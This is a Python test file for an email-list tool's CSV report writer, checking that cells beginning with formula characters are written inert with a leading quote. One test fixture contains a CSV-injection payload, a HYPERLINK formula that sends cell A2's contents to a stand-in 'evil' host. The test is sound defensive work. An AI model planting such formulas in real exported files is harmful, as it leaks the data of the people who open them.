"""The per-row report's writer (``Batch.report_csv``): the shared formula-safe writer, column by column."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from listguard.csvio import FORMULA_STARTS, CsvWriter
from listguard.verification import REPORT_COLUMNS, REPORT_HEADER, Batch, Verdict, Verification
from listguard.verification.reader import Records

# Text with the characters that need quoting or start a formula, mixed with ordinary ones.
cells = st.text(alphabet=st.sampled_from('ab@.,"\r\n é\t=+-'), max_size=12)
rows = st.tuples(cells, st.sampled_from(list(Verdict)), cells, cells)


def batch_of(values: list[tuple[str, Verdict, str, str]], first: int) -> Batch:
    return Batch(
        rows=range(first, first + len(values)),
        emails=[email for email, _, _, _ in values],
        verdicts=[verdict for _, verdict, _, _ in values],
        reasons=[reason for _, _, reason, _ in values],
        suggestions=[suggestion for _, _, _, suggestion in values],
        records=Records("", ","),
    )


@given(st.lists(rows, max_size=30), st.integers(min_value=1, max_value=10**6))
def test_report_is_the_shared_writers_output(values: list[tuple[str, Verdict, str, str]], first: int) -> None:
    # Given a batch of any emails, reasons and suggestions (formulas, separators, quotes, line breaks)
    batch = batch_of(values, first)

    # When the report writer writes it
    text = batch.report_csv()

    # Then it is byte for byte what the shared CSV writer writes (csv.writer's text, formulas guarded)
    out = io.StringIO(newline="")
    CsvWriter(out, REPORT_COLUMNS).write_rows(batch.report_rows())
    assert REPORT_HEADER + text == out.getvalue()
    # And no cell read back starts a formula
    for cells_read in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_read)


def test_formula_address_keeps_its_verdict_and_is_written_inert() -> None:
    # Given a file holding a formula that is a valid address, and one that is not an address
    data = b'email,name\n=1+1@example.com,Ann\n"=HYPERLINK(""http://evil/?x=""&A2,""x"")",Bob\n-,Cy\n'
    verification = Verification(io.BytesIO(data))
    batches = list(verification.batches())

    # When its row report is written
    text = "".join(batch.report_csv() for batch in batches)

    # Then the verdicts follow the syntax (the first is valid) ...
    assert [row.verdict for batch in batches for row in batch] == [
        Verdict.VALID,
        Verdict.INVALID_SYNTAX,
        Verdict.INVALID_SYNTAX,
    ]
    # ... and every formula cell is written with a single quote in front
    emails = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
    assert emails == ["'=1+1@example.com", '\'=HYPERLINK("http://evil/?x="&A2,"x")', "'-"]
